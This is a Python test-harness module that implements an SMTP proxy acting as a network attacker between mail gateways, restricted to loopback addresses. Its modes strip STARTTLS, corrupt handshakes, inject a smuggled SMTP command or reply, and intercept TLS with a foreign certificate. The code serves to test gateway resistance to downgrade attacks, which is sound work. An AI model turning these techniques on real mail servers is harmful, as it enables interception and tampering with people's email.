"""An SMTP-aware TCP proxy for attack tests: a network attacker between two gateways.

The sending gateway connects to the proxy as if it were the next hop; the proxy forwards to the
real next hop (`upstream`) and, depending on `mode`, attacks the STARTTLS upgrade:

- ``pass``: forwards bytes unchanged; after STARTTLS it just splices the TLS bytes.
- ``strip``: removes the STARTTLS line from the server's EHLO reply (fixing the ``250-`` /
  ``250 `` continuation markers); a STARTTLS the client sends anyway is answered by the proxy
  with ``502`` and never reaches the server.
- ``break``: forwards up to the server's ``220`` to STARTTLS and the client's first TLS bytes,
  then corrupts the server's handshake reply and closes both connections.
- ``inject-response``: appends ``inject_response`` (default ``250 2.0.0 injected``) to the
  server's ``220`` reply to STARTTLS, in the same segment (client-side response injection).
- ``inject-command``: appends ``inject_command`` (default ``MAIL FROM:<evil@x.test>``) right
  after the client's STARTTLS command, in the same segment (server-side command injection).
- ``mitm``: answers STARTTLS itself, runs TLS toward the client with ``mitm_cert`` /
  ``mitm_key`` (a certificate from some other CA), and relays the decrypted SMTP to the
  upstream over its own TLS (``mitm_upstream_tls``, default) or in plaintext.

The mode is read when a connection is accepted, so switching ``proxy.mode`` at run time affects
the next connection; ``switch(mode)`` also cuts the open ones (a sender may park and reuse an
encrypted connection). The proxy records what it saw: ``plaintext()`` is every byte that crossed
either leg *in plaintext* (before TLS started on that leg, including injected bytes) per
direction; ``wire()`` is every byte in any form; ``decrypted()`` is what the mitm decrypted.
Tests assert that a message marker never appears in ``plaintext()``.

Everything is bounded: one thread per connection (at most ``max_sessions``), every socket has
a timeout, a session lives at most ``session_timeout`` seconds, records are capped, and
``close()`` stops the listener and every session thread. Only 127.0.0.0/8 addresses are
accepted. TLS toward both sides uses ``ssl.SSLObject`` over memory BIOs, so one thread drives
each connection without sharing an SSL object between threads. The listener, the accept loop
and the thread per connection are netserver.ThreadedServer's.
"""

from __future__ import annotations

import re
import select
import socket
import ssl
import time
from pathlib import Path

from netserver import ThreadedServer, loopback

MODES = ("pass", "strip", "break", "inject-response", "inject-command", "mitm")

RECORD_CAP = 4 << 20  # bytes kept per record
LINE_CAP = 64 << 10  # a plaintext line longer than this is forwarded as is


class _Closed(Exception):
    """The session is over (EOF, error, or the mode ends it)."""


class TlsProxy(ThreadedServer):
    """The proxy; `TlsProxy(("127.0.0.4", 0), ("127.0.0.2", 2525))`, then `.addr`."""

    kind = "tlsproxy"

    def __init__(
        self,
        listen: tuple[str, int],
        upstream: tuple[str, int],
        mode: str = "pass",
        *,
        mitm_cert: Path | None = None,
        mitm_key: Path | None = None,
        mitm_upstream_tls: bool = True,
        inject_response: bytes = b"250 2.0.0 injected\r\n",
        inject_command: bytes = b"MAIL FROM:<evil@x.test>\r\n",
        timeout: float = 10.0,
        session_timeout: float = 60.0,
        max_sessions: int = 32,
    ):
        assert mode in MODES, mode
        self.upstream = (loopback(upstream[0]), int(upstream[1]))
        self.mode = mode
        self.mitm_cert = mitm_cert
        self.mitm_key = mitm_key
        self.mitm_upstream_tls = mitm_upstream_tls
        self.inject_response = inject_response
        self.inject_command = inject_command
        self.timeout = timeout
        self.session_timeout = session_timeout
        self.sessions: list[dict] = []  # per connection: mode, events, outcome
        super().__init__(listen[0], listen[1], max_sessions=max_sessions, poll=0.1)
        self.start()

    # --- observation

    def _join(self, kind: str, direction: str | None = None) -> bytes:
        with self._lock:
            return b"".join(
                data
                for s in self.sessions
                for (k, d, data) in s["records"]
                if k == kind and (direction is None or d == direction)
            )

    def plaintext(self, direction: str | None = None) -> bytes:
        """Every byte that crossed a leg in plaintext; direction "c2s", "s2c" or both."""
        return self._join("plain", direction)

    def wire(self, direction: str | None = None) -> bytes:
        """Every byte that crossed a leg, plaintext or TLS records."""
        return self._join("wire", direction)

    def decrypted(self, direction: str | None = None) -> bytes:
        """What the mitm decrypted from the client ("c2s") or the upstream ("s2c")."""
        return self._join("decrypted", direction)

    def connections(self, mode: str | None = None) -> list[dict]:
        with self._lock:
            return [dict(s) for s in self.sessions if mode is None or s["mode"] == mode]

    def switch(self, mode: str, cut: bool = True) -> None:
        """Sets the mode for new connections; with `cut`, ends every open connection (a sender's
        parked, already encrypted connection would otherwise never see the new mode)."""
        assert mode in MODES, mode
        self.mode = mode
        if cut:
            self.shutdown_connections()

    def reset(self) -> None:
        """Forgets every record of finished and running sessions."""
        with self._lock:
            for s in self.sessions:
                s["records"].clear()

    # --- ThreadedServer

    def handle(self, conn: socket.socket, peer: tuple[str, int]):
        conn.settimeout(self.timeout)
        info = {"mode": self.mode, "peer": peer, "records": [], "events": [], "outcome": None}
        with self._lock:
            self.sessions.append(info)
        return _Session(self, conn, info).run


def _reply_complete(buf: bytes) -> int:
    """Length of the first complete SMTP reply in `buf` (0 if none yet)."""
    pos = 0
    while True:
        nl = buf.find(b"\n", pos)
        if nl < 0:
            return 0
        line = buf[pos:nl]
        pos = nl + 1
        if len(line) < 4 or line[3:4] != b"-":
            return pos


_STARTTLS_LINE = re.compile(rb"^\d{3}[ -]STARTTLS\s*$", re.I)


def _strip_starttls(reply: bytes) -> bytes:
    """The reply without its STARTTLS line, continuation markers fixed."""
    lines = [l for l in reply.split(b"\r\n") if l]
    kept = [l for l in lines if not _STARTTLS_LINE.match(l)]
    if len(kept) == len(lines) or not kept:
        return reply
    out = []
    for i, l in enumerate(kept):
        sep = b" " if i == len(kept) - 1 else b"-"
        out.append(l[:3] + sep + l[4:])
    return b"\r\n".join(out) + b"\r\n"


class _Tls:
    """One TLS endpoint over memory BIOs, driven by the session thread."""

    def __init__(self, ctx: ssl.SSLContext, server_side: bool):
        self.inc = ssl.MemoryBIO()
        self.out = ssl.MemoryBIO()
        self.obj = ctx.wrap_bio(self.inc, self.out, server_side=server_side)
        self.done = False

    def feed(self, data: bytes) -> bytes:
        """Feeds received TLS bytes; returns decrypted application data (handshake first)."""
        if data:
            self.inc.write(data)
        if not self.done:
            try:
                self.obj.do_handshake()
                self.done = True
            except ssl.SSLWantReadError:
                return b""
        chunks = []
        while True:
            try:
                d = self.obj.read(65536)
            except ssl.SSLWantReadError:
                break
            except ssl.SSLZeroReturnError:
                raise _Closed("TLS close_notify")
            if not d:
                break
            chunks.append(d)
        return b"".join(chunks)

    def pending_out(self) -> bytes:
        return self.out.read()


class _Session:
    def __init__(self, proxy: TlsProxy, csock: socket.socket, info: dict):
        self.p = proxy
        self.c = csock
        self.s: socket.socket | None = None
        self.info = info
        self.mode = info["mode"]
        self.cbuf = b""  # client → proxy, plaintext not yet forwarded
        self.sbuf = b""  # server → proxy, plaintext not yet forwarded
        self.c_plain = True  # the client leg is still plaintext
        self.s_plain = True  # the server leg is still plaintext
        self.starttls_pending = False  # STARTTLS forwarded, its reply not seen yet
        self.data_reply_pending = False
        self.in_data = False
        self.broken = False
        # mitm
        self.c_tls: _Tls | None = None
        self.s_tls: _Tls | None = None
        self.mitm_c2s: bytes = b""  # decrypted from the client, not yet sent upstream
        self.mitm_upstream_ready = False

    # --- records

    def _rec(self, kind: str, direction: str, data: bytes) -> None:
        if not data:
            return
        with self.p._lock:
            total = sum(len(d) for (_, _, d) in self.info["records"])
            if total < RECORD_CAP:
                self.info["records"].append((kind, direction, bytes(data[: RECORD_CAP - total])))

    def _event(self, what: str) -> None:
        with self.p._lock:
            if len(self.info["events"]) < 200:
                self.info["events"].append(what)

    # --- sending

    def _send_client(self, data: bytes, plain: bool) -> None:
        if not data:
            return
        self._rec("wire", "s2c", data)
        if plain:
            self._rec("plain", "s2c", data)
        self.c.sendall(data)

    def _send_server(self, data: bytes, plain: bool) -> None:
        if not data:
            return
        self._rec("wire", "c2s", data)
        if plain:
            self._rec("plain", "c2s", data)
        assert self.s is not None
        self.s.sendall(data)

    # --- the loop

    def run(self) -> None:
        try:
            self.s = socket.create_connection(
                self.p.upstream, timeout=self.p.timeout, source_address=(self.p.addr[0], 0)
            )
            self.p.track(self.s)
            deadline = time.monotonic() + self.p.session_timeout
            while not self.p.stopping:
                if time.monotonic() > deadline:
                    raise _Closed("session timeout")
                r, _, _ = select.select([self.c, self.s], [], [], 0.1)
                for sock in r:
                    data = sock.recv(65536)
                    if not data:
                        raise _Closed("EOF from " + ("client" if sock is self.c else "server"))
                    if sock is self.c:
                        self._from_client(data)
                    else:
                        self._from_server(data)
            self.info["outcome"] = "stopped"
        except _Closed as e:
            self.info["outcome"] = str(e)
        except (OSError, ssl.SSLError) as e:
            self.info["outcome"] = f"{type(e).__name__}: {e}"
        except Exception as e:  # noqa: BLE001 - a bug in the proxy must show up in the test
            self.info["outcome"] = f"proxy error {type(e).__name__}: {e}"
            with self.p._lock:
                self.p.errors.append(self.info["outcome"])
        finally:
            for sock in (self.c, self.s):
                if sock is None:
                    continue
                try:
                    sock.close()
                except OSError:
                    pass
                self.p.untrack(sock)

    # --- client → server

    def _client_tls_data(self, data: bytes) -> None:
        assert self.c_tls is not None
        plain = self.c_tls.feed(data)
        self._flush_client_tls()
        if plain:
            self._rec("decrypted", "c2s", plain)
            if len(self.mitm_c2s) + len(plain) > RECORD_CAP:
                raise _Closed("mitm: upstream not ready and too much client data")
            self.mitm_c2s += plain
            self._mitm_forward()

    def _from_client(self, data: bytes) -> None:
        if self.c_tls is not None:  # mitm: TLS terminated here
            self._rec("wire", "c2s", data)
            self._client_tls_data(data)
            return
        if not self.c_plain:  # spliced TLS
            self._rec("wire", "c2s", data)
            self._send_server(data, plain=False)
            return
        self._rec("plain", "c2s", data)
        self._rec("wire", "c2s", data)
        self.cbuf += data
        while self.c_plain and self.c_tls is None:
            nl = self.cbuf.find(b"\n")
            if nl < 0:
                if len(self.cbuf) > LINE_CAP:
                    line, self.cbuf = self.cbuf, b""
                    self._client_line(line)
                    continue
                break
            line, self.cbuf = self.cbuf[: nl + 1], self.cbuf[nl + 1 :]
            self._client_line(line)

    def _client_line(self, line: bytes) -> None:
        # the client's bytes were recorded as received; what goes on to the server in
        # plaintext is sent without a second record, except the proxy's own additions
        cmd = line.strip().upper()
        if self.in_data:
            if line.rstrip(b"\r\n") == b".":
                self.in_data = False
            self._forward_server_raw(line)
            return
        if cmd == b"DATA":
            self.data_reply_pending = True
        if cmd == b"STARTTLS":
            self._event("client STARTTLS")
            if self.mode == "strip":
                self._event("strip: STARTTLS answered by the proxy")
                self._send_client(b"502 5.5.1 Command not implemented\r\n", plain=True)
                return
            if self.mode == "mitm":
                self._mitm_start()
                return
            self.starttls_pending = True
            if self.mode == "inject-command":
                self._event("inject-command")
                extra = self.p.inject_command
                self._rec("plain", "c2s", extra)
                self._rec("wire", "c2s", extra)
                assert self.s is not None
                self.s.sendall(line + extra)  # one segment
                return
        self._forward_server_raw(line)

    def _forward_server_raw(self, data: bytes) -> None:
        assert self.s is not None
        self.s.sendall(data)

    # --- server → client

    def _from_server(self, data: bytes) -> None:
        if self.s_tls is not None:  # mitm's own TLS toward the upstream
            self._rec("wire", "s2c", data)
            plain = self.s_tls.feed(data)
            self._flush_server_tls()
            if self.s_tls.done and not self.mitm_upstream_ready:
                self.mitm_upstream_ready = True
                self._event("mitm: upstream TLS up")
                self._mitm_forward()
            if plain:
                self._rec("decrypted", "s2c", plain)
                self._mitm_to_client(plain)
            return
        if self.c_tls is not None and self.s_plain and not self.starttls_pending:
            # mitm with a plaintext upstream: relay into the client's TLS
            self._rec("plain", "s2c", data)
            self._rec("wire", "s2c", data)
            self._rec("decrypted", "s2c", data)
            self._mitm_to_client(data)
            return
        if not self.s_plain:
            self._rec("wire", "s2c", data)
            if self.mode == "break" and not self.broken:
                self.broken = True
                self._event("break: server handshake bytes corrupted")
                head, body = data[:5], data[5:]
                self.c.sendall(head + bytes(b ^ 0x5A for b in body))
                raise _Closed("break: handshake corrupted and closed")
            self.c.sendall(data)
            return
        self._rec("plain", "s2c", data)
        self._rec("wire", "s2c", data)
        self.sbuf += data
        while self.s_plain and self.s_tls is None:
            n = _reply_complete(self.sbuf)
            if not n:
                if len(self.sbuf) > LINE_CAP:
                    self.c.sendall(self.sbuf)
                    self.sbuf = b""
                break
            reply, self.sbuf = self.sbuf[:n], self.sbuf[n:]
            self._server_reply(reply)
        if not self.s_plain and self.s_tls is None and self.sbuf:
            rest, self.sbuf = self.sbuf, b""
            self.c.sendall(rest)

    def _server_reply(self, reply: bytes) -> None:
        code = reply[:3]
        if self.mode == "mitm" and self.starttls_pending:
            # the mitm's own STARTTLS toward the upstream
            self.starttls_pending = False
            if code == b"220":
                self._mitm_upstream_tls()
            else:
                raise _Closed(f"mitm: upstream refused STARTTLS: {reply!r}")
            return
        if self.data_reply_pending:
            self.data_reply_pending = False
            self.in_data = code == b"354"
        if self.mode == "strip" and code == b"250" and b"STARTTLS" in reply.upper():
            stripped = _strip_starttls(reply)
            if stripped != reply:
                self._event("strip: STARTTLS removed from the EHLO reply")
            self.c.sendall(stripped)
            return
        if self.starttls_pending:
            self.starttls_pending = False
            if code == b"220":
                # TLS starts on both legs with the next bytes
                self.c_plain = False
                self.s_plain = False
                if self.mode == "inject-response":
                    self._event("inject-response")
                    extra = self.p.inject_response
                    self._rec("plain", "s2c", extra)
                    self._rec("wire", "s2c", extra)
                    self.c.sendall(reply + extra)  # one segment
                    return
        self.c.sendall(reply)

    # --- mitm

    def _mitm_start(self) -> None:
        if not (self.p.mitm_cert and self.p.mitm_key):
            raise _Closed("mitm mode without mitm_cert/mitm_key")
        self._event("mitm: STARTTLS answered by the proxy")
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(str(self.p.mitm_cert), str(self.p.mitm_key))
        self._send_client(b"220 2.0.0 Ready to start TLS\r\n", plain=True)
        self.c_plain = False
        self.c_tls = _Tls(ctx, server_side=True)
        if self.p.mitm_upstream_tls:
            self.starttls_pending = True
            self._send_server(b"STARTTLS\r\n", plain=True)
        else:
            self.mitm_upstream_ready = True
        if self.cbuf:  # bytes after STARTTLS belong to the TLS stream
            rest, self.cbuf = self.cbuf, b""
            self._client_tls_data(rest)

    def _mitm_upstream_tls(self) -> None:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        self.s_plain = False
        self.s_tls = _Tls(ctx, server_side=False)
        self.s_tls.feed(b"")
        self._flush_server_tls()

    def _mitm_forward(self) -> None:
        if not self.mitm_upstream_ready or not self.mitm_c2s:
            return
        data, self.mitm_c2s = self.mitm_c2s, b""
        if self.s_tls is not None:
            self.s_tls.obj.write(data)
            self._flush_server_tls()
        else:
            self._send_server(data, plain=True)

    def _mitm_to_client(self, data: bytes) -> None:
        assert self.c_tls is not None
        self.c_tls.obj.write(data)
        self._flush_client_tls()

    def _flush_client_tls(self) -> None:
        out = self.c_tls.pending_out() if self.c_tls else b""
        if out:
            self._rec("wire", "s2c", out)
            self.c.sendall(out)

    def _flush_server_tls(self) -> None:
        out = self.s_tls.pending_out() if self.s_tls else b""
        if out:
            self._rec("wire", "c2s", out)
            assert self.s is not None
            self.s.sendall(out)
